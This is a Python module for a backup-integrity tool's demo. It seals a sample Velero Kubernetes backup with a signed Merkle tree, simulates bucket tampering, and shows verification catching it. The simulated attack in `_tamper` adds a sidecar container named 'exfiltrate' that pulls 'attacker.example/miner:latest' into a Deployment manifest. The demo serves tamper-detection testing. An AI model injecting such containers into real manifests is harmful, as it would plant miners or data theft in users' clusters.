"""`merkle-backup demo`: the whole story on a built-in example backup, each step the command a
user would type, run for real (the same click commands, in this process), with its output and
its exit code.

The example is a real Velero-layout backup written by Go's archive/tar (tests/fixtures/README.md):
152 items in 2 namespaces, classic and -preferredversion copies, PAX long names. It runs in a
temporary folder, removed at the end, or in ``--keep DIR``, left in place (the backup sealed and
as it was, the keys), so that README's commands can go on from there.
"""

from __future__ import annotations

import contextlib
import gzip
import io
import json
import os
import re
import shutil
import tarfile
import tempfile
import textwrap
from collections.abc import Callable, Iterator
from importlib import resources
from pathlib import Path

DEMO_BACKUP = "demo-small"
BACKUP = f"bucket/backups/{DEMO_BACKUP}"
KEY = "keys/demo.key"


class Failed(Exception):
    """A step's exit code was not the one the demo expects: it stops there."""


class Step:
    """Runs ``merkle-backup ARGS`` as a user would type it, in the demo's folder; shows the
    command, its output (indented) and its exit code. ``cli``: the command line's entry (it
    raises SystemExit with the exit code), handed in by the ``demo`` command, so that this module
    does not import the command line that imports it."""

    def __init__(self, echo: Callable[[str], None], cli: Callable[[list[str]], object]) -> None:
        self.echo = echo
        self.cli = cli

    def __call__(self, expected: int, *args: str) -> str:
        command = "merkle-backup " + " ".join(args)
        self.echo(f"   $ {command}")
        out, err = io.StringIO(), io.StringIO()
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            try:
                self.cli(list(args))
                code = 0
            except SystemExit as e:
                code = e.code if isinstance(e.code, int) else (0 if e.code is None else 1)
        text = out.getvalue() + err.getvalue()
        for line in text.splitlines():
            self.echo(f"     {line}")
        self.echo(f"   -> exit {code}" + ("" if code == expected else
                                         f" (expected {expected}: the demo FAILED here)"))
        if code != expected:
            raise Failed(f"{command}: exit {code}, expected {expected}")
        return text


@contextlib.contextmanager
def _folder(keep: Path | None) -> Iterator[Path]:
    if keep is None:
        with tempfile.TemporaryDirectory(prefix="merkle-backup-demo-") as tmp:
            yield Path(tmp)
        return
    keep.mkdir(parents=True, exist_ok=True)
    if any(keep.iterdir()):
        from merkle_backup.errors import UsageError

        raise UsageError(f"--keep {keep}: the folder is not empty; give a new or empty one")
    yield keep


@contextlib.contextmanager
def _inside(folder: Path) -> Iterator[None]:
    before = Path.cwd()
    os.chdir(folder)
    try:
        yield
    finally:
        os.chdir(before)


def run_demo(echo: Callable[[str], None], cli: Callable[[list[str]], object],
             keep: Path | None = None) -> int:
    """Exit 0 when every step ended as it should (tampering caught and named), else 1.
    ``cli``: runs the command line on its arguments (``Step``)."""
    try:
        return _run(echo, cli, keep)
    except Failed as e:
        echo(f"\ndemo FAILED: {e}.")
        return 1


def _run(echo: Callable[[str], None], cli: Callable[[list[str]], object],
         keep: Path | None) -> int:
    with _folder(keep) as root, _inside(root):
        where = (f"in {keep} (kept: --keep)" if keep is not None else
                 f"in a temporary folder, {root}, removed at the end (keep it with --keep DIR)")
        for line in textwrap.wrap(f"The demo runs {where}; each step is the command you would "
                                  "type, run for real.", width=79, break_on_hyphens=False):
            echo(line)
        step = Step(echo, cli)

        def say(text: str, indent: str = "   ") -> None:  # a step "N. ...", or a remark under it
            first = "" if re.match(r"\d\. ", text) else indent
            lines = textwrap.wrap(text, width=79, initial_indent=first,
                                  subsequent_indent=indent,
                                  break_on_hyphens=False, break_long_words=False)
            for line in lines:
                echo(line)

        folder = Path(BACKUP)
        shutil.copytree(resources.files("merkle_backup") / "demo_data" / DEMO_BACKUP, folder)  # type: ignore[arg-type]
        for p in folder.iterdir():
            p.chmod(0o644)
        original = (folder / f"{DEMO_BACKUP}.tar.gz").read_bytes()
        echo("")
        say(f"1. An example backup as Velero writes it to its bucket: {BACKUP}/ holds the "
            f"tarball {DEMO_BACKUP}.tar.gz (152 Kubernetes items) and "
            f"{len(list(folder.iterdir())) - 1} other objects.")

        say("2. A key pair: the private key signs seals; you keep the public one to verify.")
        step(0, "keygen", KEY)

        say("3. Seal the backup: one Merkle leaf per tar entry and per bucket object, the "
            "root signed.")
        step(0, "seal", BACKUP, "--key", KEY)
        say("Velero writes each item twice (its classic and -preferredversion copies), hence "
             "more tar entries than items.")

        say("4. Verify the whole backup.")
        step(0, "verify", BACKUP, "--trust", f"{KEY}.pub")
        say(f"The signature proves that this seal, whose root covers every leaf, was made with "
            f"the private key that belongs to {KEY}.pub, the key you trust. Keys found in the "
            "bucket are never used: someone who can write to the bucket can change the backup, "
            "but cannot make a seal that verifies.")

        namespace = _deployment_namespace(folder)
        other = _other_namespace(folder, namespace)
        own, outside = _namespace_leaves(folder / f"{DEMO_BACKUP}-merkle.seal", namespace)
        say(f"5. Verify only what a restore of namespace {namespace} reads (before a selective "
             "restore).")
        out = step(0, "verify", BACKUP, "--trust", f"{KEY}.pub", "--namespace", namespace)
        in_scope = _in_scope(out)
        if in_scope is not None:
            say(f"{in_scope} leaves in scope: the {own} entries of {namespace} (what `inspect` "
                f"counts for it) and {in_scope - own} of the {outside} that belong to no "
                "namespace (cluster-scoped items, bucket objects, metadata/version: inspect's "
                "'(cluster, bucket, metadata)'), which such a restore also reads.")

        target = _tamper(folder / f"{DEMO_BACKUP}.tar.gz", namespace)
        say(f"6. The demo now plays an attacker who can write to the bucket: it adds a sidecar "
            f"container to {target} and rewrites the tarball (no command here: the attacker "
            "uses tools of their own).")

        say("7. Verify the whole backup again.")
        tampered = step(1, "verify", BACKUP, "--trust", f"{KEY}.pub")
        say("Exit 1: not authentic. The changed manifest is named: a restore would apply it.")

        say(f"8. Verify only namespace {other}: a restore of it reads none of the changed bytes.")
        step(0, "verify", BACKUP, "--trust", f"{KEY}.pub", "--namespace", other)
        say(f"VERIFIED covers only what this restore reads; the problem in {namespace} was "
             "found too, and is counted apart: it does not make this restore unsafe.")

        (folder / f"{DEMO_BACKUP}.tar.gz").write_bytes(original)
        say("9. Put the original tarball back, and verify once more.")
        step(0, "verify", BACKUP, "--trust", f"{KEY}.pub")

        if not any(target in line and "modified" in line for line in tampered.splitlines()):
            raise Failed(f"{target} was not named as modified")
        echo("")
        say("demo finished: tampering was caught and named, and the untouched namespace still "
            "verified.", indent="")
        if keep is not None:
            say(f"Kept in {keep}: the sealed backup ({BACKUP}/) and the key pair ({KEY}, "
                f"{KEY}.pub). Try: cd {keep} && merkle-backup inspect "
                f"{BACKUP}/{DEMO_BACKUP}-merkle.seal", indent="")
        return 0


def _in_scope(out: str) -> int | None:
    for line in out.splitlines():
        if " leaves, " in line and line.endswith(" in scope"):
            return int(line.rsplit(" in scope", 1)[0].rsplit(" ", 1)[1])
    return None


def _namespace_leaves(seal_file: Path, namespace: str) -> tuple[int, int]:
    """(leaves of ``namespace``, leaves of no namespace) as `inspect` counts them."""
    from merkle_backup.inspect import describe_seal_file

    with seal_file.open("rb") as f:
        counts = describe_seal_file(f)["leaves_by_namespace"]
    return counts.get(namespace, 0), counts.get("", 0)


def _members(tarball: Path) -> list[tuple[tarfile.TarInfo, bytes]]:
    with tarfile.open(tarball, "r:gz") as tar:
        return [(m, tar.extractfile(m).read()) for m in tar.getmembers()]  # type: ignore[union-attr]


def _deployment_namespace(folder: Path) -> str:
    for member, _ in _members(folder / f"{DEMO_BACKUP}.tar.gz"):
        parts = member.name.split("/")
        if parts[:2] == ["resources", "deployments.apps"] and parts[2] == "namespaces":
            return parts[3]
    raise RuntimeError("the demo backup has no Deployment")


def _other_namespace(folder: Path, namespace: str) -> str:
    for member, _ in _members(folder / f"{DEMO_BACKUP}.tar.gz"):
        parts = member.name.split("/")
        if len(parts) == 5 and parts[2] == "namespaces" and parts[3] != namespace:
            return parts[3]
    raise RuntimeError("the demo backup has only one namespace")


def _tamper(tarball: Path, namespace: str) -> str:
    """Rewrite the tarball as an attacker would: one Deployment gains a sidecar container."""
    members = _members(tarball)
    prefix = f"resources/deployments.apps/namespaces/{namespace}/"
    buffer = io.BytesIO()
    target = ""
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.PAX_FORMAT) as out:
        for member, original in members:
            data = original
            if not target and member.name.startswith(prefix):
                target = member.name
                obj = json.loads(original)
                obj["spec"]["template"]["spec"]["containers"].append(
                    {"name": "exfiltrate", "image": "attacker.example/miner:latest"}
                )
                data = json.dumps(obj, separators=(",", ":"), sort_keys=True).encode()
            info = tarfile.TarInfo(member.name)
            info.size, info.mode, info.mtime = len(data), member.mode, int(member.mtime)
            out.addfile(info, io.BytesIO(data))
    tarball.write_bytes(gzip.compress(buffer.getvalue()))
    return target
